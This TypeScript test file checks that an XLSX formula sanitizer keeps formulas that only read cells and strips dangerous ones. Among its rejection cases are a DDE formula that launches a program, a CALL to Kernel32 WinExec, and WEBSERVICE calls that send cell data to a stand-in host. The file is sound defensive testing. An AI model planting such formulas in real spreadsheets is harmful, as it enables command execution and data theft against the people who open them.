import { describe, expect, test } from 'vitest';
import { formulaKeeper } from '../../../functions/files/xlsx/patch/cell-formulas.ts';
import { isHarmless } from '../../../functions/files/xlsx/patch/formula.ts';
import { elementOf } from '../../../functions/files/xlsx/xml.ts';

const sheets = new Set(['danh sách', 'thôn', "nhà 'cũ'"]);

describe('a formula of a drop-down, a conditional format or a name', () => {
  test.each([
    '"Nam,Nữ"',
    'Thôn!$A$1:$A$9',
    "'Danh sách'!$A$1:$I$4,'Danh sách'!$1:$2",
    "'Nhà ''cũ'''!A1",
    'AND(LEN(TRIM($H4))<>9, LEN($H4)<>12)',
    'INDIRECT("T_"&$E4)',
    'COUNTIF($B$2:$B$900,B2)>1',
    '_xlfn.TEXTJOIN(", ",TRUE,A1:A9)',
    '"=WEBSERVICE(""x"")"',
    '#REF!',
  ])('stays where it only looks at cells: %s', (formula) => {
    expect(isHarmless(formula, sheets)).toBe(true);
  });

  test.each([
    "cmd|'/c calc'!A1",
    '[1]Danh!$A$1',
    "'[khac.xlsx]Danh sách'!A1",
    "'C:\\khac\\[b.xlsx]A'!A1",
    'WEBSERVICE("http://example.invalid/"&A1)',
    'webservice ("x")',
    'HYPERLINK("x","y")',
    'CALL("Kernel32","WinExec","JCJ","x",0)',
    '_xll.ham(1)',
    '_xlfn.WEBSERVICE("x")',
    '_xlfn._xlws.FILTER(A:A,B:B)',
    'Khác!A1',
    'SUM(CALL("a","b","c"),1)',
  ])('goes where it could reach outside: %s', (formula) => {
    expect(isHarmless(formula, sheets)).toBe(false);
  });
});

describe('the formula of a cell', () => {
  const known = { sheets, names: new Set(['muc_chuan']) };
  /** What stays of the formulas of cells, in their order. */
  const kept = (...formulas: string[]) => {
    let lost = 0;
    const keep = formulaKeeper(known, () => {
      lost += 1;
    });
    const given = formulas.map((formula) => keep(elementOf(formula), true));
    expect(lost).toBe(given.filter((formula) => formula === '').length);
    return given;
  };

  test.each([
    '<f>SUM(G4:G9)*1.5</f>',
    '<f>IF(AND(G4&lt;=120,H4&gt;=30),"Hộ nghèo","Hộ cận nghèo")</f>',
    "<f>VLOOKUP($A4,'Danh sách'!$A$2:$I$900,5,FALSE)</f>",
    '<f>G4*Muc_Chuan</f>',
    '<f>1E-3+A:A</f>',
    '<f t="array" ref="H4:H9">G4:G9*2</f>',
  ])('stays where it only looks at cells: %s', (formula) => {
    expect(kept(formula)).toEqual([formula]);
  });

  test.each([
    ['reaches outside', '<f>WEBSERVICE("http://example.invalid/"&amp;A1)</f>'],
    ['is a link', '<f>HYPERLINK("http://example.invalid/","Nam")</f>'],
    ['starts a program', "<f>cmd|'/c calc'!A1</f>"],
    ['is of another workbook', '<f>[1]Danh!$A$1</f>'],
    ['is of a sheet that does not stay', '<f>Khác!A1</f>'],
    ['needs a name that does not stay', '<f>G4*ngoai</f>'],
    ['is made at run time', '<f>INDIRECT("\'http://example.invalid/a.ods\'#$A.A1")</f>'],
    ['hides where its texts end', '<f>_x0022_&amp;WEBSERVICE(A1)&amp;_x0022_</f>'],
    ['is empty', '<f/>'],
    ['has an element inside', '<f>1<b/></f>'],
    ['fills a table of data', '<f t="dataTable" ref="B2:B9" r1="A1">1</f>'],
    ['names no range', '<f t="array" ref="x">1</f>'],
    ['is longer than any', `<f>${'1+'.repeat(5_000)}1</f>`],
  ])('goes where it %s', (_, formula) => {
    expect(kept(formula)).toEqual(['']);
  });

  test('is judged by its own names, whatever was judged before', () => {
    const own = ['<f>Thôn!A1</f>', '<f>SUM(A1)*muc_chuan</f>', "<f>'Danh sách'!A1</f>"];
    const others = [
      '<f>Thôn1!A1</f>',
      '<f>SUM(A1)*muc_chuan1</f>',
      "<f>'Danh sách 1'!A1</f>",
      '<f>T1!A2</f>',
    ];
    expect(kept(...own, ...others)).toEqual([...own, '', '', '', '']);
    expect(kept('<f>SUM(B7)</f>', '<f>SUM($C$9)</f>', '<f>CALL(B7)</f>')).toEqual([
      '<f>SUM(B7)</f>',
      '<f>SUM($C$9)</f>',
      '',
    ]);
  });

  test('that is shared stays where the cell that has it keeps it', () => {
    const [one, another] = ['<f t="shared" ref="H4:H9" si="0">G4*2</f>', '<f t="shared" si="0"/>'];
    expect(kept(one, another, another)).toEqual([one, another, another]);
    expect(kept(another, one)).toEqual(['', one]);
    const evil = '<f t="shared" ref="H4:H9" si="0">CALL("a","b","c")</f>';
    expect(kept(evil, another)).toEqual(['', '']);
    expect(kept(one, evil, another)).toEqual([one, '', '']);
  });
});
